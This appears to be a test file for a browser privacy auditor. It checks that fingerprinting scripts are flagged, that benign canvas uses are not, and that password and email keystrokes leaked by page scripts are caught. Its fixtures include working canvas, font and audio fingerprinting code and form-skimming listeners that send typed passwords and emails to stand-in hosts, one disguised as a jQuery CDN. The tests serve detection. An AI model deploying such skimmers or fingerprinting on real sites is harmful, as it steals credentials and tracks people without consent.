"""Scripts that pry, in real browsers: fingerprints and what only looks like one, and what is sent of what is typed."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from auditor.evidence.crossings import Crossing, Crossings
from auditor.evidence.fingerprints import Fingerprints
from auditor.evidence.requests import Requests
from auditor.evidence.typed import Typed
from auditor.render.task import RenderResult
from tests.render.nasty import Shop

Open = Callable[[str], RenderResult]
TEXT = "Cwm fjordbank glyphs vext quiz"
DRAW = f"const c = document.createElement('canvas'); const x = c.getContext('2d'); x.font = '14px Arial'; x.fillText('{TEXT}', 2, 15);"


@pytest.fixture
def visit(rendered: Callable[..., tuple[str, RenderResult]]) -> Open:
    return lambda html: rendered(html, frozenset({"requests", "fingerprints", "typed", "crossings"}))[1]


FINGERPRINTS = {
    "canvas": f"{DRAW} c.toDataURL();",
    "fonts": "const x = document.createElement('canvas').getContext('2d');"
    "for (let i = 0; i < 60; i += 1) { x.font = '72px Font' + i; x.measureText('mmmmmmmmmmlli'); }",
    "audio": "const a = new OfflineAudioContext(1, 5000, 44100); const o = a.createOscillator(); const d = a.createDynamicsCompressor();"
    "o.connect(d); d.connect(a.destination); o.start(0); a.startRendering();",
}
NONE = {
    "wp-emoji": "const x = document.createElement('canvas').getContext('2d', {willReadFrequently: true}); x.textBaseline = 'top'; x.font = '600 32px Arial';"
    "for (const t of ['\\u{1F3F3}\\uFE0F\\u200D\\u26A7\\uFE0F', '\\u{1F1FA}\\u{1F1F3}', '\\u{1F426}\\u200D\\u2B1B']) { x.fillText(t, 0, 0); x.getImageData(0, 0, 300, 150); }",
    "chart": f"{DRAW} document.body.append(c); c.toDataURL();",
    "barcode": "const c = document.createElement('canvas'); const x = c.getContext('2d'); x.fillRect(0, 0, 2, 9); x.fillText('4006381333931', 0, 9); c.toDataURL();",
    "personalised mug": f"{DRAW} x.drawImage(document.createElement('canvas').getContext('2d').canvas, 0, 0, 5, 5); c.toDataURL();",
    "colour of a picture": "const x = document.createElement('canvas').getContext('2d'); x.fillRect(0, 0, 9, 9); x.getImageData(0, 0, 99, 99);",
    "a few fonts": "const x = document.createElement('canvas').getContext('2d'); for (let i = 0; i < 500; i += 1) { x.font = (i % 400) + 'px Arial'; x.measureText('Add to cart'); }",
}  # fmt: skip


def test_who_takes_a_fingerprint_is_told(visit: Open, shop: Shop) -> None:
    library = shop.put(
        f"/* no <html> */ window.deep = () => {{ {DRAW} c.toDataURL(); }}; deep();", {"Content-Type": "text/javascript"}
    )
    seen = visit(f"<h1>Lamp</h1><script src='{library}'></script>").bundle.read(Fingerprints)
    assert seen is not None
    assert [(one.script, one.how) for one in seen.items] == [(library, "canvas")]


def test_fingerprints_are_noticed_and_what_only_looks_like_one_is_not(visit: Open) -> None:
    script = "".join(
        f"try {{ (() => {{ {one} }})() }} catch (error) {{ document.title = String(error) }}"
        for one in [*FINGERPRINTS.values()]
    )
    seen = visit(f"<h1>Lamp</h1><script>{script}</script>").bundle.read(Fingerprints)
    assert seen is not None
    assert {one.how for one in seen.items} == set(FINGERPRINTS)
    assert all(one.script.startswith("http") for one in seen.items)
    script = "".join(f"(() => {{ {one} }})();" for one in NONE.values())
    result = visit(
        f"<h1>Lamp</h1><script>{script} document.title = 'done ' + HTMLCanvasElement.prototype.toDataURL</script>"
    )
    assert "native code" in result.html
    assert result.bundle.read(Fingerprints) == Fingerprints()


LOGIN = "<form action=/login method=post><input type=email name=email><input type=password name=pass><button>Log in</button></form><input name=q>"
LISTENERS = """<script>
  const [mail, pass] = document.querySelectorAll('form input');
  pass.addEventListener('keyup', () => { clearTimeout(window.t); window.t = setTimeout(() => { new Image().src = 'https://cdn-jquery.invalid/g?d=' + btoa('p=' + pass.value + '&x'); }, 50); });
  mail.addEventListener('change', () => fetch('https://api.stranger.invalid/check', {method: 'POST', mode: 'no-cors', body: JSON.stringify({mail: mail.value})}).catch(() => {}));
  mail.addEventListener('blur', async () => {
    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(mail.value));
    const hex = [...new Uint8Array(hash)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    fetch('https://www.google-analytics.com/g/collect?v=2&tid=G-ABC123DEF4&en=mail&ep.h=' + hex, {method: 'POST', mode: 'no-cors'}).catch(() => {});
  });
  addEventListener('keyup', () => fetch('/own?typed=' + pass.value).catch(() => {}));
</script>"""


def test_what_is_typed_and_not_submitted_is_found_in_what_others_are_sent(visit: Open) -> None:
    result = visit(LOGIN + LISTENERS)
    typed, requests = result.bundle.read(Typed), result.bundle.read(Requests)
    assert typed is not None, result
    assert requests is not None
    assert set(typed.fields) == {"password", "email"}
    assert {(one.url.split("/")[2], one.field, one.form) for one in typed.heard} >= {
        ("cdn-jquery.invalid", "password", "encoded"),
        ("www.google-analytics.com", "email", "hashed"),
    }
    told = {one.url.split("/")[2] for one in typed.heard} | set(typed.unread)
    assert "api.stranger.invalid" in told
    assert not [one.url for one in requests.items if "typed=" in one.url or "/g/collect" in one.url]
    assert "4242" not in result.html


def test_where_nothing_secret_is_typed_nothing_is_typed_at_all(visit: Open) -> None:
    result = visit(
        "<input type=email name=email><input name=q><input type=password style='display:none'>" + "<script>1</script>"
    )
    assert result.bundle.read(Typed) == Typed()


def test_what_is_typed_does_not_even_reach_the_shop(visit: Open, shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []
    serve = Shop._serve
    monkeypatch.setattr(Shop, "_serve", lambda self, handler: (asked.append(handler.path), serve(self, handler)))
    result = visit(
        LOGIN + "<script>const pass = document.querySelector('[type=password]');"
        "addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; });"
        "addEventListener('pagehide', () => navigator.sendBeacon('/last?' + pass.value));"
        "addEventListener('keyup', () => { fetch('/typed?' + pass.value, {keepalive: true}).catch(() => {}); navigator.sendBeacon('/typed?' + pass.value); });"
        "setInterval(() => pass.value && fetch('/late?' + pass.value).catch(() => {}), 100);</script>"
    )
    typed = result.bundle.read(Typed)
    assert typed is not None
    assert "password" in typed.fields
    assert [path for path in asked if path.startswith(("/typed", "/late", "/last"))] == []
    assert any(path.startswith("/page-") for path in asked)


LINKER = """<script>addEventListener('mousedown', (event) => { const link = event.target.closest('a'); if (link) link.href += (link.search ? '&' : '?') + '_gl=1*abc'; });</script>"""
CHECKOUT = "<p><a href='https://store-ab12.mybigcommerce.com/checkout?id=1'>Checkout</a> <a href='https://elsewhere.example/cart'>a friend's shop</a> <a href=/cart>Cart</a></p>"


@pytest.mark.parametrize(("script", "handed"), [(LINKER, True), ("<script>1</script>", False)])
def test_whether_a_link_to_the_checkout_hands_the_visitor_on(visit: Open, script: str, handed: bool) -> None:
    result = visit(CHECKOUT + script)
    assert result.bundle.read(Crossings) == Crossings(
        (Crossing("https://store-ab12.mybigcommerce.com/checkout", pressed=True, handed=handed),)
    )
    requests = result.bundle.read(Requests)
    assert requests is not None
    assert not [one.url for one in requests.items if "mybigcommerce" in one.url]
